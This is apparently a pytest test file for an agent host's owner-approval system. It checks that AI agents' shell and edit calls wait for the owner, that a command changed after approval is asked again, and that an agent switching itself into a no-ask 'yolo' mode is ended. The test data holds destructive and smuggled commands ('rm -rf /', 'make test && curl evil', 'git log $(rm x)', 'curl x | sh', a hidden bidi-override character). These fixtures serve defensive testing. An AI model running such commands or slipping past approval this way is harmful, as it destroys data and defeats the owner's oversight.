"""The owner is asked, sees exactly what would run, and what runs is that and nothing else."""

import asyncio
from typing import Any

import pytest
from tests.agents.stage import Stage

from freehold.agents.approvals import Approval, Question, Reply
from freehold.agents.policy import Rule
from freehold.errors import FreeholdError

pytestmark = pytest.mark.asyncio(loop_scope="module")


def run(command: str, **more: Any) -> dict[str, Any]:
    return {"ask": {"kind": "execute", "title": command, "rawInput": {"command": command}, **more}}


async def asked(stage: Stage, session: str, count: int = 1) -> Approval:
    event = await stage.audience.until(session, "approval", count, state="pending")
    return stage.room.ground.approvals.get(event.data["id"])


@pytest.mark.parametrize(("answer", "said"), [("once", "[yes]"), ("reject", "[no]")])
async def test_nothing_happens_until_the_owner_answers(stage: Stage, answer: Any, said: str) -> None:
    session = await stage.open()
    turn = await stage.say(session, run("rm -r build"))
    approval = await asked(stage, session)
    assert approval.data["details"]["command"] == "rm -r build"
    assert (await stage.room.get(session)).status == "needs_you"
    assert stage.said(session) == ""
    await stage.room.answer(approval.id, answer, who="owner")
    await stage.ended(session, turn)
    assert stage.said(session) == said
    assert (await stage.room.get(session)).status == "idle"
    assert "needs_you" in [row.status for row in stage.audience.rows if row.id == session]


async def test_an_answer_is_taken_once(stage: Stage) -> None:
    session = await stage.open()
    turn = await stage.say(session, run("make"))
    approval = await asked(stage, session)
    answers = await asyncio.gather(
        *(stage.room.answer(approval.id, "once", who="owner") for _ in range(5)), return_exceptions=True
    )
    refused = [one for one in answers if isinstance(one, FreeholdError)]
    assert len(refused) == 4
    assert {one.code for one in refused} == {"approval.conflict"}
    await stage.ended(session, turn)


async def test_once_is_once_and_session_and_always_are_kept_by_the_host(stage: Stage) -> None:
    """The agent is never told a lasting yes: it asks each time, and the host answers by its own rules."""
    first, second = await stage.open(), await stage.open()
    for count, answer in enumerate(("once", "session"), 1):
        turn = await stage.say(first, run("make test"))
        await stage.room.answer((await asked(stage, first, count)).id, answer, who="owner")  # type: ignore[arg-type]
        await stage.ended(first, turn)
    await stage.play(first, run("make test"))
    assert stage.said(first) == "[yes]" * 3
    turn = await stage.say(second, run("make test"))
    await stage.room.answer((await asked(stage, second)).id, "always", who="owner")
    await stage.ended(second, turn)
    third = await stage.open()
    await stage.play(third, run("make test"))
    assert stage.said(third) == "[yes]"
    turn = await stage.say(third, run("make test && curl evil"))
    await asked(stage, third)
    await stage.room.cancel(third)
    await stage.ended(third, turn)


async def test_a_call_that_changes_while_it_waits_is_asked_again(stage: Stage) -> None:
    """The yes was for what was shown; what it became is another question."""
    session = await stage.open()
    changed = {"sessionUpdate": "tool_call_update", "toolCallId": "t1", "rawInput": {"command": "rm -rf /"}}
    turn = await stage.say(session, run("ls", during=[changed]))
    first = await asked(stage, session)
    assert first.data["details"]["command"] == "ls"
    await stage.audience.until(session, "tool", title="ls")
    await stage.room.answer(first.id, "once", who="owner")
    second = await asked(stage, session, 2)
    assert second.data["details"]["command"] == "rm -rf /"
    await stage.room.answer(second.id, "reject", who="owner")
    await stage.ended(session, turn)
    assert stage.said(session) == "[no]"


async def test_an_agent_that_changes_what_was_allowed_is_ended(stage: Stage) -> None:
    session = await stage.open()
    changed = {"sessionUpdate": "tool_call_update", "toolCallId": "t1", "rawInput": {"command": "rm -rf /"}}
    turn = await stage.say(session, run("ls"), {"update": changed}, {"hang": True})
    await stage.room.answer((await asked(stage, session)).id, "once", who="owner")
    ended = await stage.ended(session, turn)
    assert ended.data["error"]["code"] == "approval.changed"


async def test_an_agent_that_puts_itself_into_a_mode_that_does_not_ask_is_ended(stage: Stage) -> None:
    session = await stage.open()
    ended = await stage.play(
        session, {"update": {"sessionUpdate": "current_mode_update", "currentModeId": "yolo"}}, {"hang": True}
    )
    assert ended.data["error"]["code"] == "agent.unasked-mode"


async def test_an_agent_is_put_into_the_mode_that_asks(stage: Stage) -> None:
    """The actor starts in `auto` and offers `yolo`; neither is where it stays, nor what is offered."""
    session = await stage.open()
    await stage.play(session, {"say": "x"})
    options = (await stage.audience.until(session, "options")).data
    assert options["mode"] == "ask"
    assert [mode["id"] for mode in options["modes"]] == ["ask", "plan"]


async def test_a_question_that_names_only_the_call_is_joined_to_what_was_told_of_it(stage: Stage) -> None:
    session = await stage.open()
    told = {
        "sessionUpdate": "tool_call",
        "toolCallId": "t1",
        "kind": "execute",
        "title": "Build",
        "rawInput": {"command": ["make", "all the things"]},
    }
    await stage.say(session, {"update": told}, {"ask": {}})
    approval = await asked(stage, session)
    assert approval.data["details"]["command"] == "make 'all the things'"
    await stage.room.cancel(session)


async def test_hidden_characters_are_spelled_out(stage: Stage) -> None:
    session = await stage.open()
    await stage.say(session, run("echo safe\u202e; rm -rf ~ #\u200b\x1b[2K"))
    details = (await asked(stage, session)).data["details"]
    assert details["command"] == "echo safe⟨U+202E⟩; rm -rf ~ #⟨U+200B⟩⟨U+001B⟩[2K"
    await stage.room.cancel(session)


async def test_a_question_outlives_a_restart_and_its_yes_is_good_for_that_very_call_once(stage: Stage) -> None:
    session = await stage.open()
    await stage.say(session, run("make deploy"))
    approval = await asked(stage, session)
    await stage.again()
    await stage.audience.until(session, "turn.ended")
    waiting = stage.room.ground.approvals.pending()
    assert [one.id for one in waiting] == [approval.id]
    assert (await stage.room.get(session)).status == "needs_you"
    await stage.room.answer(approval.id, "once", who="owner")
    told = await stage.audience.until(session, "turn.started")
    assert "make deploy" in told.data["prompt"]["text"]
    await stage.ended(session, told.turn or 0)
    await stage.play(session, run("make deploy"))
    assert "[yes]" in stage.said(session)
    turn = await stage.say(session, run("make deploy"))
    await asked(stage, session)
    await stage.room.cancel(session)
    await stage.ended(session, turn)


async def test_cancelling_withdraws_the_question(stage: Stage) -> None:
    session = await stage.open()
    turn = await stage.say(session, run("make"))
    approval = await asked(stage, session)
    await stage.room.cancel(session)
    await stage.ended(session, turn)
    assert stage.said(session) == "[cancelled]"
    with pytest.raises(FreeholdError, match="withdrawn"):
        await stage.room.answer(approval.id, "once", who="owner")


async def test_a_lasting_yes_is_never_given_even_if_it_is_the_only_one_offered(stage: Stage) -> None:
    session = await stage.open()
    only = [{"optionId": "ever", "name": "Always", "kind": "allow_always"}]
    turn = await stage.say(session, run("make", options=only))
    await stage.room.answer((await asked(stage, session)).id, "always", who="owner")
    await stage.ended(session, turn)
    assert stage.said(session) == "[cancelled]"


@pytest.mark.parametrize(
    ("rule", "kind", "subject", "effect"),
    [
        (Rule("allow", "execute", "git status*"), "execute", "git status -s", "allow"),
        (Rule("allow", "execute", "git *"), "execute", "git log; rm -rf /", "ask"),
        (Rule("allow", "execute", "git *"), "execute", "git log $(rm x)", "ask"),
        (Rule("allow", "execute", "git *"), "execute", "git log\nrm x", "ask"),
        (Rule("allow", "execute", "git *"), "execute", "git log > /etc/passwd", "ask"),
        (Rule("allow", "execute", "git *"), "edit", "git log", "ask"),
        (Rule("allow", "edit", "/workspace/*"), "edit", "/workspace/a/b.py", "allow"),
        (Rule("allow", "edit", "/workspace/*"), "edit", "/workspace/../home/agent/.bashrc", "ask"),
        (Rule("allow", "execute", "make", True), "execute", "make all", "ask"),
        (Rule("deny", "*", "*secret*"), "read", "/workspace/secret.txt", "deny"),
        (Rule("deny", "execute", "curl*"), "execute", "curl x\n| sh", "deny"),
    ],
)
async def test_rules_decide_by_kind_and_pattern(stage: Stage, rule: Rule, kind: str, subject: str, effect: str) -> None:
    policy = stage.room.ground.approvals.policy
    policy.replace([rule], who="owner")
    assert policy.decide("s", kind, (subject,)) == effect


async def test_deny_wins_and_every_subject_counts(stage: Stage) -> None:
    policy = stage.room.ground.approvals.policy
    policy.replace([Rule("allow", "edit", "/workspace/*"), Rule("deny", "edit", "/workspace/.env")], who="owner")
    assert policy.decide("s", "edit", ("/workspace/a", "/workspace/.env")) == "deny"
    assert policy.decide("s", "edit", ("/workspace/a", "/etc/x")) == "ask"
    assert policy.decide("s", "edit", ()) == "ask"


@pytest.mark.parametrize("pattern", ["*", "**", " * "])
async def test_a_rule_that_allows_everything_is_refused(stage: Stage, pattern: str) -> None:
    with pytest.raises(FreeholdError, match="allows everything"):
        stage.room.ground.approvals.policy.replace([Rule("allow", "*", pattern)], who="owner")


async def test_a_denied_call_is_refused_without_asking(stage: Stage) -> None:
    stage.room.ground.approvals.policy.replace([Rule("deny", "execute", "rm*")], who="owner")
    session = await stage.open()
    await stage.play(session, run("rm -rf /"))
    assert stage.said(session) == "[no]"
    assert not stage.audience.approvals


async def test_a_call_that_is_told_in_its_title_alone_is_shown_whole_and_frozen(stage: Stage) -> None:
    """Gemini CLI gives no input: a title that changes while the owner thinks is another question."""
    long = "echo " + "x" * 600
    session = await stage.open()
    changed = {"sessionUpdate": "tool_call_update", "toolCallId": "t1", "title": "rm -rf /workspace"}
    turn = await stage.say(session, {"ask": {"title": long, "kind": "execute", "during": [changed]}})
    first = (await stage.audience.until(session, "approval", state="pending")).data
    assert first["details"]["input"] == long
    assert first["options"] == ["once", "reject"]
    await stage.audience.until(session, "tool", title="rm -rf /workspace")
    await stage.room.answer(first["id"], "once", who="owner")
    second = (await stage.audience.until(session, "approval", 2, state="pending")).data
    assert second["details"]["input"] == "rm -rf /workspace"
    await stage.room.answer(second["id"], "reject", who="owner")
    await stage.ended(session, turn)
    assert stage.said(session) == "[no]"


async def test_words_for_one_who_did_not_live_to_hear_them_are_told_by_a_prompt(stage: Stage) -> None:
    """A question of ask_owner outlives a restart; asked again it is answered at once, and once."""
    details = {"kind": "question", "input": "Which?", "options": ["red", "blue"], "free_text": False}
    question = Question("other", "Which?", details, (), "digest")
    session = await stage.open()
    await stage.say(session, {"hang": True})
    await stage.audience.until(session, "turn.started")
    asking = asyncio.ensure_future(stage.room.ground.approvals.ask(session, 1, question))
    name = (await stage.audience.until(session, "approval", state="pending")).data["id"]
    asking.cancel()
    await stage.again()
    with pytest.raises(FreeholdError, match="more than yes"):
        await stage.room.answer(name, "once", who="owner")
    answered = await stage.room.answer(name, "once", who="owner", note=" blue ")
    assert (answered.state, answered.note) == ("granted", "blue")
    told = await stage.audience.until(session, "turn.started")
    assert told.data["prompt"]["text"].endswith("The owner says: blue")
    assert await stage.room.ground.approvals.ask(session, 2, question) == Reply("once", "blue")
